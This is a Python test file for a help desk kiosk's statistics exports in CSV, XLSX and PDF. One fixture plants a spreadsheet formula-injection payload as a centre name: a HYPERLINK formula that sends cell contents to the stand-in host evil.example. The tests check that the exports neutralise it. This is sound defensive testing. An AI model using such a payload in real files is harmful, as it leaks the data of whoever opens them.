"""The funder's files for a seeded month: the CSV and the XLSX open with the right columns
and the report's figures (hidden ones hidden), nothing in them runs as a formula, the
XLSX carries native charts, and the PDF renders (pdftoppm; the pages are kept to look at)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.helpers.helpdesk_servers import REPO, FakeClock, LiveServer, Seeded, StaffApi
from tests.helpers.stats_seed import (
    COORDINATOR,
    FEBRUARY,
    Month,
    Visit,
    fold_on_kiosk,
    seed_month,
    upload,
)

FEB = {"start": "2026-02-01", "end": "2026-02-28", "lang": "en"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SHOTS = REPO / "test-artifacts" / "stats"


@pytest.fixture(params=["sqlite"])
def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """The files do not depend on the database; SQLite keeps these tests quick."""
    return f"sqlite:///{tmp_path / 'helpdesk.sqlite3'}"


@pytest.fixture
def month(seeded: Seeded, clock: FakeClock, tmp_path: Path) -> Month:
    made = seed_month(seeded, clock, tmp_path)
    # A centre whose name an administrator typed as a spreadsheet formula.
    seeded.store.add_centre(EVIL)
    token = seeded.pair_kiosk("kiosk-x", centre=EVIL)
    visits = [Visit(day, 11, "fi") for day in FEBRUARY[:10]]
    upload(seeded, fold_on_kiosk(tmp_path / "x", visits), token, FEBRUARY[-1].replace(month=3))
    return made


def _get(staff: StaffApi, kind: str) -> bytes:
    response = staff.http.get(f"/api/v1/staff/stats/export.{kind}", params=FEB)
    assert response.status_code == 200, response.text
    assert "attachment" in response.headers["content-disposition"]
    assert "2026-02-01-2026-02-28" in response.headers["content-disposition"]
    return response.content


def test_csv_has_the_columns_the_figures_and_no_formula(live: LiveServer, month: Month) -> None:
    staff = StaffApi(live.url, COORDINATOR)
    data = _get(staff, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads ä and ö
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Section", "Row", "Measure", "Value", "Note"]
    assert all(len(r) == 5 for r in rows)
    sessions = len(month.kalliola) + len(month.vuosaari) + 10
    assert ["In short", "Sessions (not people)", "Number", str(sessions), ""] in rows
    assert ["Language of the screens", "Russian (Русский)", "Sessions", "", "hidden"] in rows
    # The method line, word for word.
    assert any("sessions, not people; cells under 5 hidden" in r[4] for r in rows)
    # Nothing a spreadsheet would run: every text cell starting with = + - @ is quoted.
    for row in rows:
        for text in row:
            assert not text.startswith(("=", "+", "@", "\t", "\r")), row
            assert not (text.startswith("-") and not text.lstrip("-").replace(".", "").isdigit())
    centre_rows = [r for r in rows if r[0] == "Centres" and "HYPERLINK" in r[1]]
    assert centre_rows and centre_rows[0][1] == "'" + EVIL


def test_xlsx_opens_with_its_sheets_figures_and_native_charts(
    live: LiveServer, month: Month
) -> None:
    staff = StaffApi(live.url, COORDINATOR)
    data = _get(staff, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames[0] == "Statistics"
    assert "Language of the screens" in book.sheetnames
    assert "Help requests by topic" in book.sheetnames
    about = book["Statistics"]
    assert "sessions, not people" in str(about["B5"].value)
    language = book["Language of the screens"]
    assert [c.value for c in language[3]][:2] == ["Language", "Sessions"]
    cells = {row[0].value: row for row in language.iter_rows(min_row=4)}
    assert (
        cells["Finnish (Suomi)"][1].value
        == sum(v.language == "fi" for v in month.kalliola + month.vuosaari) + 10
    )
    russian = cells["Russian (Русский)"]
    assert russian[1].value is None and russian[2].value == "hidden"
    # No cell anywhere is a formula, the centre named like one included.
    found_evil = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                found_evil |= cell.value == EVIL
    assert found_evil  # kept as plain text
    # Native (editable) Excel charts, one per charted table.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) >= 8
        xml = archive.read(charts[0]).decode()
        assert "<c:barChart>" in xml or "<c:barChart" in xml


def test_pdf_report_renders(live: LiveServer, month: Month, tmp_path: Path) -> None:
    staff = StaffApi(live.url, COORDINATOR)
    data = _get(staff, "pdf")
    assert data.startswith(b"%PDF-")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(data)
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True)
    assert "Kiosk statistics 2026-02-01 – 2026-02-28" in text.stdout
    assert "sessions, not people" in text.stdout
    assert str(len(month.kalliola) + len(month.vuosaari) + 10) in text.stdout
    out = tmp_path / "page"
    subprocess.run(["pdftoppm", "-png", "-r", "80", str(pdf), str(out)], check=True)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) >= 3
    SHOTS.mkdir(parents=True, exist_ok=True)
    for page in pages:
        assert page.stat().st_size > 10_000  # drawn, not blank
        shutil.copy(page, SHOTS / f"report-{page.name}")


def test_one_chart_as_svg_png_and_pdf(live: LiveServer, month: Month) -> None:
    staff = StaffApi(live.url, COORDINATOR)
    for fmt, start in (("svg", b"<svg"), ("png", b"\x89PNG"), ("pdf", b"%PDF")):
        response = staff.http.get(f"/api/v1/staff/stats/charts/language.{fmt}", params=FEB)
        assert response.status_code == 200, fmt
        assert response.content.startswith(start), fmt
    assert staff.http.get("/api/v1/staff/stats/charts/nothing.svg", params=FEB).status_code == 404
    assert staff.http.get("/api/v1/staff/stats/charts/language.gif", params=FEB).status_code == 404


def test_without_the_stats_extra_tables_and_csv_still_work(
    live: LiveServer, month: Month, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A help desk installed without ``digituki-kiosk[stats]`` (the kiosk's bundle)."""
    import sys

    for module in ("altair", "vl_convert", "xlsxwriter", "fpdf"):
        monkeypatch.setitem(sys.modules, module, None)  # "import altair" now fails
    staff = StaffApi(live.url, COORDINATOR)
    report = staff.http.get("/api/v1/staff/stats", params=FEB).json()
    assert report["charts_missing"] is True and report["charts"] is None
    assert report["rendered"][0]["rows"][0]["values"] == [
        len(month.kalliola) + len(month.vuosaari) + 10
    ]
    assert staff.http.get("/api/v1/staff/stats/export.csv", params=FEB).status_code == 200
    for kind in ("xlsx", "pdf"):
        response = staff.http.get(f"/api/v1/staff/stats/export.{kind}", params=FEB)
        assert response.status_code == 503
        assert "digituki-kiosk[stats]" in response.json()["detail"]
